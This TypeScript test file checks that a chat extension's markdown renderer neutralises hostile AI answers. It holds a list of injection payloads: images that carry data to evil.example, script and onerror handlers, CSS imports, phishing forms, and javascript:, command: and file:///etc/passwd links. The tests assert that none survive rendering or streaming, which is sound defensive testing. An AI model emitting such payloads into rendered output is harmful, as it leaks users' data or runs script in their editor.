import assert from 'node:assert/strict';
import type { ChatSnapshot } from '../../src/protocol/chat';
import { type ChatHost, emptySnapshot } from '../support/chatHost';
import { chatPages } from '../support/chatPages';
import { turn } from '../support/chatStates';

/** What a hostile answer may try: to fetch, to run, to open another extension's address, to look like something else. */
const attacks: Readonly<Record<string, string>> = {
  'an image that carries data away': '![x](https://evil.example/p.png?d=secret)',
  'an image by reference': '![x][i]\n\n[i]: https://evil.example/p.png',
  'an image in a link': '[![x](https://evil.example/p.png)](https://evil.example/q)',
  'an inline svg image': '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  'a script': '<script>window.pwned = 1</script>',
  'an image with a handler': '<img src=x onerror="window.pwned = 1">',
  'an svg with a handler': '<svg onload="window.pwned = 1"><use href="https://evil.example/s.svg#x"/></svg>',
  'a style': '<style>@import "https://evil.example/s.css"; body { display: none }</style>',
  'a styled element': '<p style="background: url(https://evil.example/b.png)">x</p>',
  'a frame': '<iframe src="https://evil.example/"></iframe>',
  'a form': '<form action="https://evil.example/"><input name="key"><button>Sign in</button></form>',
  'a base address': '<base href="https://evil.example/"><a href="x">x</a>',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'a javascript link': '[x](javascript:window.pwned=1) <javascript:window.pwned=1>',
  'a javascript link with a line feed': '[x](java&#10;script:window.pwned=1) [y](&#x6A;avascript:window.pwned=1)',
  'a data link': '[x](data:text/html,<script>window.pwned=1</script>)',
  'a link to an editor command': '[x](command:workbench.action.terminal.new) <command:x>',
  'a link to another extension': '[x](vscode://pub.ext/do?a=1) [y](vscode-insiders://pub.ext) [z](VSCODE://a.b)',
  'a link to a file': '[x](file:///etc/passwd) [y](\\\\server\\share) [z](//evil.example/x)',
  'markup in a link title': '[x](https://example.com "\\"><img src=x onerror=window.pwned=1>")',
  'markup in a code language': '```"><img src=x onerror=window.pwned=1>\nx\n```',
  'markup in highlighted code': '```html\n<img src=x onerror="window.pwned = 1"><script>window.pwned = 1</script>\n```',
  'markup in a table': '| a |\n|---|\n| <img src=x onerror=window.pwned=1> |',
  'markup in the text of an image': '![<img src=x onerror=window.pwned=1>](https://evil.example/"><script>)',
  'math and mutation':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
  'a noscript break': '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
  'an element with the name of a function': '<a id="acquireVsCodeApi" name="body">x</a>',
};

const allowed = new Set(
  'A BLOCKQUOTE BR BUTTON CODE DIV EM H4 HR LI OL P PRE S SPAN STRONG TABLE TBODY TD TH THEAD TR UL'.split(' '),
);

describe('a hostile answer', () => {
  const open = chatPages();

  async function examine(draw: (host: ChatHost) => Promise<void>, snapshot: ChatSnapshot) {
    const { page, host } = await open(snapshot, { theme: 'light' });
    await draw(host);
    await page.locator('.facts-text').first().waitFor({ state: 'attached' });
    return page.evaluate(() => ({
      elements: [...document.querySelectorAll('.md *')].map((element) => ({
        name: element.nodeName,
        attributes: [...element.attributes].map(({ name }) => name),
      })),
      links: [...document.querySelectorAll('.md a')].map((link) => link.getAttribute('href') ?? ''),
      pwned: 'pwned' in window,
    }));
  }

  function assertHarmless({ elements, links, pwned }: Awaited<ReturnType<typeof examine>>): void {
    assert.equal(pwned, false);
    assert.deepEqual(
      elements.filter(({ name }) => !allowed.has(name)),
      [],
    );
    const names = new Set(elements.flatMap(({ attributes }) => attributes));
    assert.deepEqual(
      [...names].filter((name) => name.startsWith('on') || ['style', 'id', 'name', 'src', 'srcset'].includes(name)),
      [],
    );
    assert.deepEqual(
      links.filter((href) => !/^(https?:\/\/|mailto:)/.test(href)),
      [],
    );
  }

  it('has no effect once it is complete', async () => {
    const turns = Object.entries(attacks).map(([name, text]) =>
      turn(name, {
        blocks: [
          { kind: 'text', text },
          { kind: 'thinking', text },
          { kind: 'toolUse', name: text, text },
        ],
      }),
    );
    assertHarmless(await examine(async () => undefined, emptySnapshot({ turns })));
  });

  for (const size of [1, 3, 7]) {
    it(`has no effect while it streams in pieces of ${size}`, async () => {
      const whole = Object.values(attacks).join('\n\n');
      const found = await examine(
        async (host) => {
          await host.wasAsked('chat/follow');
          for (let at = 0; at < whole.length; at += size) {
            host.emit({ type: 'append', block: 0, kind: 'text', text: whole.slice(at, at + size) });
            // Lets frames be drawn in between, at places that differ with the size.
            if (at % (size * 40) === 0) await new Promise((resolve) => setImmediate(resolve));
          }
          host.finish({ state: 'done', model: 'm', blocks: [{ kind: 'text', text: whole }] });
        },
        emptySnapshot({ turns: [turn('stream', { state: 'waiting' })] }),
      );
      assertHarmless(found);
    });
  }

  it('shows the host of a blocked image, and of a link whose text shows another', async () => {
    const text = '![x](https://evil.example/p.png) and [https://bank.example](https://evil.example/login)';
    const { page } = await open(emptySnapshot({ turns: [turn('q', { blocks: [{ kind: 'text', text }] })] }), {
      drawn: '.md p',
    });
    assert.equal(await page.locator('.md-image').textContent(), 'blocked image: evil.example');
    // Users can open it in their browser.
    assert.match((await page.locator('.md-image').getAttribute('href')) ?? '', /^https:\/\/evil\.example\//);
    assert.equal(await page.locator('.md-host').textContent(), 'evil.example');
  });
});
